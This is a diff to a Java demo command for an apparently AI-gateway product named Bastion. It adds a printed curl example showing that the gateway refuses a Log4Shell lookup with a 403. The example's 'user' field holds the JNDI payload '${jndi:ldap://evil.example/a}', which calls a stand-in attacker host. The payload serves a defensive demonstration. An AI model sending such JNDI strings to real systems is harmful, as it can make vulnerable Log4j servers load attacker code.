@@ -136,6 +136,11 @@ public final class DemoCommand implements Callable<Integer> {
         out.println("  curl -sN " + base + "/v1/chat/completions -H \"Authorization: Bearer $BASTION_KEY\" \\");
         out.println("       -H 'Content-Type: application/json' -d " + ask("What is the deploy key?").replace("{\"model\"", "{\"stream\":true,\"model\""));
         out.println();
+        out.println("  # request inspection: SQL or shell in a prompt is the model's business (the guardrails read it), but a");
+        out.println("  # Log4Shell lookup in the request's own fields is refused with 403 request_blocked before anything is forwarded");
+        out.println("  curl -s " + base + "/v1/chat/completions -H \"Authorization: Bearer $BASTION_KEY\" \\");
+        out.println("       -H 'Content-Type: application/json' -d " + ask("SELECT name FROM users; -- explain this query").replace("{\"model\"", "{\"user\":\"${jndi:ldap://evil.example/a}\",\"model\""));
+        out.println();
         out.println("  # no key: 401, in Bastion's JSON error shape with a request id");
         out.println("  curl -si " + base + "/v1/models");
         out.println();
